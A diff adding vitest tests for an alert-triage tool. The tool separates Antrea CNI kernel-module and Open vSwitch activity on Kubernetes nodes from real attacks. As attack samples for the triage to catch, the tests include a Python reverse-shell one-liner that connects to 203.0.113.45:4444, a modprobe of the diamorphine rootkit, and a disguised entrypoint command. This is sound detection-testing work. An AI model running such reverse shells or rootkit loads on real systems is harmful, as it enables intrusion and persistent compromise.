@@ -1,0 +1,107 @@
+/**
+ * Context found in the kubeadm-antrea-rook validation scenario, as rule tables: a CNI init container loading its
+ * kernel module under a node EDR that shows the process tree — with the traps each must not fall into.
+ */
+import { describe, expect, it } from 'vitest';
+import type { ProcessInfo } from '../../../src/alerts/model.js';
+import type { Pod } from '../../../src/cluster/model.js';
+import { buildIndex } from '../../../src/cluster/index.js';
+import { triageAlert } from '../../../src/triage/pipeline.js';
+import { alert, node, owner, pod, snapshot } from '../../support/cluster.js';
+import { elastic } from '../../../src/alerts/vendors/elastic.js';
+import { mapAll } from '../../alerts/vendors/helpers.js';
+
+const W1 = 'k8s-wrk-01';
+const W2 = 'k8s-wrk-02';
+const T = (hms: string) => `2027-08-19T${hms}.000Z`;
+const SHIM = { name: 'containerd-shim-runc-v2', path: '/usr/bin/containerd-shim-runc-v2', commandLine: `/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id ${'a'.repeat(64)} -address /run/containerd/containerd.sock` };
+const INSTALL_CNI = { name: 'bash', path: '/usr/bin/bash', commandLine: '/bin/bash /usr/local/bin/install_cni' };
+
+const antreaDs = owner('DaemonSet', 'antrea-agent', 'kube-system');
+function antrea(name: string, nodeName: string, created: string, namespace = 'kube-system', ownerName = 'antrea-agent'): Pod {
+  const p = pod(name, {
+    namespace,
+    node: nodeName,
+    hostNetwork: true,
+    created,
+    owner: { kind: 'DaemonSet', name: ownerName },
+    containers: [
+      { name: 'antrea-agent', image: 'antrea/antrea-agent-ubuntu:v2.2.0', command: ['antrea-agent'], args: ['--config=/etc/antrea/antrea-agent.conf'], securityContext: { privileged: true } },
+      { name: 'antrea-ovs', image: 'antrea/antrea-agent-ubuntu:v2.2.0', command: ['start_ovs'] },
+    ],
+  });
+  p.spec.initContainers = [{ name: 'install-cni', image: 'antrea/antrea-agent-ubuntu:v2.2.0', command: ['install_cni'], securityContext: { capabilities: { add: ['SYS_MODULE'] } } }];
+  p.status!.initContainerStatuses = [{ name: 'install-cni', restartCount: 0, state: { terminated: { exitCode: 0, reason: 'Completed', startedAt: created, finishedAt: created } } }];
+  return p;
+}
+const agent1 = antrea('antrea-agent-kx2lp', W1, T('09:15:49'));
+// An antrea image in an application namespace, owned by something else, is not Antrea.
+const fakeDs = owner('DaemonSet', 'net-helper', 'tools');
+const fake = antrea('net-helper-q8w2d', W2, T('09:15:49'), 'tools', 'net-helper');
+
+const index = buildIndex([snapshot([node(W1, '10.20.0.21'), node(W2, '10.20.0.22'), antreaDs, agent1, fakeDs, fake])]);
+const verdict = (a: ReturnType<typeof alert>) => triageAlert(a, { index }).verdict;
+const modprobe = (host: string, time: string, module: string, parent: ProcessInfo = INSTALL_CNI) =>
+  alert({ host, time: T(time), process: { name: 'modprobe', path: '/usr/bin/kmod', commandLine: `modprobe ${module}` }, ancestors: [parent, SHIM] });
+
+describe('a kernel module loaded by a CNI init container, seen by a node EDR with the process tree', () => {
+  it("Antrea's install_cni loading openvswitch seconds after the init container started", () => {
+    const v = verdict(modprobe(W1, '09:15:58', 'openvswitch'));
+    expect(v.label).toBe('likely-false-positive');
+    expect(v.reasons.map((r) => r.message).join(' ')).toMatch(/install-cni container/);
+  });
+  it('trap: a module Antrea does not load, under the same parent', () => {
+    expect(verdict(modprobe(W1, '09:15:58', 'diamorphine'))).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+  it('trap: the right module under a parent that is not the init container command (an interactive shell)', () => {
+    const v = verdict(modprobe(W1, '09:15:58', 'openvswitch', { name: 'sh', path: '/usr/bin/dash', commandLine: 'sh' }));
+    expect(v).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+  it('trap: a script merely named like the entrypoint in a later argument does not count', () => {
+    const v = verdict(modprobe(W1, '09:15:58', 'openvswitch', { name: 'bash', commandLine: '/bin/bash -c cd /tmp && ./x install_cni' }));
+    expect(v.label).toBe('genuine');
+  });
+  it('trap: the init container ran hours before the module load', () => {
+    expect(verdict(modprobe(W1, '12:15:58', 'openvswitch')).label).toBe('genuine');
+  });
+  it('trap: an antrea image in an application namespace under another owner', () => {
+    expect(verdict(modprobe(W2, '09:15:58', 'openvswitch'))).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+});
+
+describe('flat ECS columns of a Kibana CSV report reach the rules', () => {
+  const row = (cmd: string, parent: string) => ({
+    '@timestamp': '2027-08-19T09:52:17.088Z',
+    'kibana.alert.rule.name': 'Suspicious Child Process',
+    'kibana.alert.uuid': `u-${cmd.length}`,
+    'host.name': W1,
+    'process.name': 'python3',
+    'process.command_line': cmd,
+    'process.parent.name': 'gunicorn',
+    'process.parent.command_line': parent,
+    'container.id': '',
+  });
+  it('trap: a reverse shell in the flat command-line column is an attack', () => {
+    const [a] = mapAll(elastic, [row('python3 -c import socket,os;s=socket.socket();s.connect(("203.0.113.45",4444));os.dup2(s.fileno(),0);import pty;pty.spawn("/bin/sh")', 'gunicorn --bind 0.0.0.0:8080 app:app')]);
+    expect(verdict(a)).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+  it('the process and its parent are read from the flat columns', () => {
+    const [a] = mapAll(elastic, [row('python3 -m http.server', 'gunicorn --bind 0.0.0.0:8080 app:app')]);
+    expect(a.process.commandLine).toBe('python3 -m http.server');
+    expect(a.process.ancestors[0]).toMatchObject({ name: 'gunicorn', commandLine: 'gunicorn --bind 0.0.0.0:8080 app:app' });
+  });
+});
+
+describe("Open vSwitch configured by Antrea's antrea-ovs container (start_ovs → ovs-ctl)", () => {
+  const ovsCtl = { name: 'ovs-ctl', commandLine: '/bin/sh /usr/share/openvswitch/scripts/ovs-ctl --no-ovs-vswitchd --system-id=random start --db-file=/var/run/openvswitch/conf.db' };
+  const vsctl = (host: string, cmd: string, parent: ProcessInfo) => alert({ host, time: T('09:19:03'), process: { name: 'ovs-vsctl', path: '/usr/bin/ovs-vsctl', commandLine: cmd }, ancestors: [parent] });
+  it('ovs-vsctl under ovs-ctl on a node where an Antrea agent pod runs', () => {
+    expect(verdict(vsctl(W1, 'ovs-vsctl --no-wait set Open_vSwitch . other_config:vlan-limit=0', ovsCtl))).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking' });
+  });
+  it('trap: the same on a node where only a look-alike pod runs', () => {
+    expect(verdict(vsctl(W2, 'ovs-vsctl --no-wait set Open_vSwitch . other_config:vlan-limit=0', ovsCtl)).label).toBe('genuine');
+  });
+  it('trap: ovs-vsctl typed into an interactive shell on an Antrea node', () => {
+    expect(verdict(vsctl(W1, 'ovs-vsctl del-br br-int', { name: 'bash', commandLine: '-bash' })).label).toBe('genuine');
+  });
+});
